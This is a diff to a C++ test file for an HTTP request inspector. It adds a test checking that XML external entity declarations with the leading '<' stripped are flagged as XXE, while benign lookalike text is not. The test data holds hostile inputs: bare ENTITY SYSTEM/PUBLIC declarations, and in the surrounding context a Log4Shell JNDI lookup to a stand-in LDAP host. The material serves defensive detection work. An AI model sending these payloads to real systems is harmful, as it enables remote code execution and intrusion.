@@ -272,6 +272,26 @@ TEST(Detectors, WellKnownPublicDoctypesAreAllowed) {
   }
 }
 
+// An entity declaration with its '<' stripped by a filter, in a parameter or a header (CRS
+// 941130 sends it as the User-Agent): the capitals XML requires, a name, SYSTEM or PUBLIC.
+// The same words in lower case, or without a name, are text.
+TEST(Detectors, BareExternalEntityDeclarationIsXxe) {
+  for (const char* ua :
+       {"foo!ENTITY % bar SYSTEM", "!ENTITY xxe PUBLIC \"x\" \"http://e.example/\""}) {
+    OwnedHttpRequest r = testing::Get("/");
+    r.headers.emplace_back("User-Agent", ua);
+    Verdict v = Inspect(r);
+    EXPECT_TRUE(HasCategory(v, Category::kXxe) && Flagged(v)) << ua << " -> " << v.explanation;
+  }
+  EXPECT_TRUE(HasCategory(Inspect(testing::Get("/?q=" + testing::UrlEncode("!ENTITY x SYSTEM"))),
+                          Category::kXxe));
+  for (const char* q : {"wow!entity resolution system", "Hello!Entity system works",
+                        "!ENTITY SYSTEM", "the !ENTITY keyword"}) {
+    Verdict v = Inspect(testing::Get("/?q=" + testing::UrlEncode(q)));
+    EXPECT_FALSE(HasCategory(v, Category::kXxe)) << q << " -> " << v.explanation;
+  }
+}
+
 TEST(Detectors, Log4ShellInAnyHeaderIsBlocked) {
   OwnedHttpRequest r = testing::Get("/");
   r.headers.emplace_back("Accept-Language", "${jndi:ldap://x.example/a}");
